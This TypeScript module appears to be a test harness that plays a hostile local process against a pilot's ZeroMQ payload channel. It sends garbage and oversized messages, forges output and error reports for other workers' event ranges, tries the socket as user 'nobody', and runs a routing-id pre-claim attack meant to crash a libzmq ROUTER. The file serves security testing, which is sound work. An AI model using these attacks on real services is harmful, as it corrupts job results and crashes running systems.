/**
 * A hostile local process against a pilot's payload channel: it finds the pilot's socket in
 * /tmp, connects with an identity the pilot never gave a range to, and sends garbage, an
 * oversized message, forged output reports and ERR_* messages for ranges the real workers
 * hold (naming a real file in the job's work directory, so a forged report that got through
 * would store the wrong bytes). Also: whether another user could connect at all.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';

/** Waits for the socket of a pilot's channel (`/tmp/zmq_EventService_EventRanges_<pid>_<random>`). */
export async function findChannelSocket(pilotPid: number, timeoutMs = 20_000): Promise<string | undefined> {
  const prefix = `zmq_EventService_EventRanges_${pilotPid}_`;
  const end = Date.now() + timeoutMs;
  while (Date.now() < end) {
    const name = (await readdir('/tmp')).find((n) => n.startsWith(prefix));
    if (name) return join('/tmp', name);
    await new Promise((r) => setTimeout(r, 20));
  }
  return undefined;
}

export interface Abuse {
  /** Messages the DEALER took (queued or delivered). */
  readonly sent: number;
  /** Messages it tried to send. */
  readonly attempted: number;
  /** The range the peer was given when it asked for one (a confused client holding a range); none when refused. */
  readonly ownRange?: string;
}

/**
 * Sends the abuse (queued by the DEALER even when the channel refuses the connection); `targets` gives real ranges of the job (asked for when the forgeries are
 * about to go out, so they can be ranges a worker holds right then), `realFile` is a file
 * inside the job's work directory. With `askForRange` the peer first asks `Ready for events`
 * like a payload worker and gets a range (so it is a peer the pilot knows); it then forges
 * reports for the other ranges only.
 */
export async function abuseChannel(socketPath: string, targets: () => Promise<readonly string[]> | readonly string[], realFile: string, o: { askForRange?: boolean } = {}): Promise<Abuse> {
  const zmq = await import('zeromq');
  const sock = new zmq.Dealer({ linger: 1000, sendTimeout: 500, receiveTimeout: 5000 });
  sock.connect(`ipc://${socketPath}`);
  let ownRange: string | undefined;
  let sent = 0;
  let attempted = 0;
  // A refused connection has nowhere to queue: the send times out, the abuse goes on.
  const send = async (m: string | Buffer) => {
    attempted++;
    try {
      await sock.send(m);
      sent++;
    } catch {
      // not delivered
    }
  };
  try {
    if (o.askForRange) {
      await send('Ready for events');
      try {
        const [reply] = await sock.receive();
        ownRange = /"eventRangeID":"([^"]+)"/.exec(reply?.toString() ?? '')?.[1];
      } catch {
        // no answer: the channel refused this process
      }
    }
    for (const m of [Buffer.from([0xff, 0xfe, 0x00, 0x80, 0x81]), 'x'.repeat(10 * 1024 * 1024), ',,,', 'No more events']) await send(m);
    const rangeIds = await targets();
    const messages: string[] = [
      ...rangeIds.filter((id) => id !== ownRange).flatMap((id) => [
        `${realFile},ID:${id},CPU:1,WALL:1`,
        `ERR_ATHENAMP_PROCESS ${id}: forged by a hostile process`,
        `ERR_ATHENAMP_PARSE [{"eventRangeID": "${id}", "startEvent": 1, "lastEvent": 1}]: Wrong format`,
      ]),
    ];
    for (const m of messages) await send(m);
    await new Promise((r) => setTimeout(r, 200));
  } finally {
    sock.close();
  }
  return { sent, attempted, ...(ownRange ? { ownRange } : {}) };
}

/**
 * Tries to connect to a Unix socket as another user (`nobody`, 65534) in a separate
 * process. @returns `connected`, or the error code (EACCES when the socket's mode keeps
 * other users out), or `not root` when this process cannot act as another user.
 */
export async function connectAsNobody(socketPath: string): Promise<string> {
  if (process.getuid?.() !== 0) return 'not root';
  const script = `const s=require('net').connect(process.argv[1]);s.on('connect',()=>{console.log('connected');s.destroy()});s.on('error',(e)=>console.log(e.code||e.message));`;
  const child = spawn(process.execPath, ['-e', script, socketPath], { uid: 65534, gid: 65534, stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: '/usr/bin:/bin' } });
  let out = '';
  child.stdout.on('data', (b: Buffer) => { out += b.toString(); });
  await once(child, 'exit');
  return out.trim() || 'no answer';
}

/**
 * The routing-id pre-claim attack on a ZeroMQ ROUTER: libzmq gives a peer without a routing
 * id `0x00` + a 32-bit counter that starts at the first value of an unseeded `rand()`
 * (0x6b8b4567), and asserts (SIGABRT) when the id it generates is already taken by a peer
 * that chose it. `claims` DEALERs take the next ids, then one plain peer connects and asks
 * for a range. @returns how many replies the attackers got (0 when the channel refused them).
 */
export async function preclaimRoutingIds(endpoint: string, claims = 64, waitMs = 1500): Promise<number> {
  const zmq = await import('zeromq');
  const socks = Array.from({ length: claims }, (_, k) => {
    const id = Buffer.alloc(5);
    id.writeUInt32BE((0x6b8b4567 + k) >>> 0, 1);
    const s = new zmq.Dealer({ linger: 0, sendTimeout: 0 });
    // The typed `routingId` is a string (UTF-8 on the wire); the raw option takes the exact bytes.
    (s as unknown as { setStringOption(o: number, v: Buffer): void }).setStringOption(5, id);
    return s;
  });
  const plain = new zmq.Dealer({ linger: 0, sendTimeout: 0 });
  let replies = 0;
  try {
    for (const s of socks) s.connect(endpoint);
    await Promise.all(socks.map((s) => s.send('Ready for events').catch(() => undefined)));
    await new Promise((r) => setTimeout(r, 300));
    plain.connect(endpoint);
    await plain.send('Ready for events').catch(() => undefined);
    const deadline = Date.now() + waitMs;
    await Promise.all([...socks, plain].map(async (s) => {
      s.receiveTimeout = Math.max(1, deadline - Date.now());
      try {
        await s.receive();
        replies++;
      } catch {
        // no answer: refused or crashed
      }
    }));
  } finally {
    for (const s of [...socks, plain]) s.close();
  }
  return replies;
}
